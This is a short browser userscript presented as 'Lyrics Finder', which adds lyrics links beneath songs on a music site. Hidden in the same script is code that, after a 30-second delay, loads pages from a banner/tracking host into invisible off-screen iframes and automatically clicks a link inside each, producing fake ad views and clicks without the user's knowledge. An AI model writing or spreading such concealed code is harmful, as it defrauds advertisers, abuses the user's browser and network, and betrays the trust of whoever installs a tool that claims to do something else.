// ==UserScript==
// @name         Lyrics Finder
// @namespace    lyrics.example
// @version      1.1
// @description  A lyrics link under each song
// @match        https://music.example.com/*
// @grant        none
// ==/UserScript==

(function () {
	document.querySelectorAll(".song").forEach(function (s) {
		var a = document.createElement("a");
		a.textContent = "lyrics";
		a.href = "https://lyrics.example.org/?q=" + encodeURIComponent(s.dataset.title);
		s.appendChild(a);
	});

	var queue = [7, 19, 23, 40];
	function next() {
		var id = queue.shift();
		if (!id) return;
		var f = document.createElement("iframe");
		f.style.cssText = "position:absolute;left:-4000px;width:800px;height:600px;opacity:0";
		f.src = "https://track.banner-pool.test/view/" + id;
		f.onload = function () {
			var link = f.contentDocument && f.contentDocument.querySelector("a");
			if (link) link.click();
			setTimeout(function () { f.remove(); next(); }, 8000);
		};
		document.body.appendChild(f); //! harm
	}
	setTimeout(next, 30000);
})();
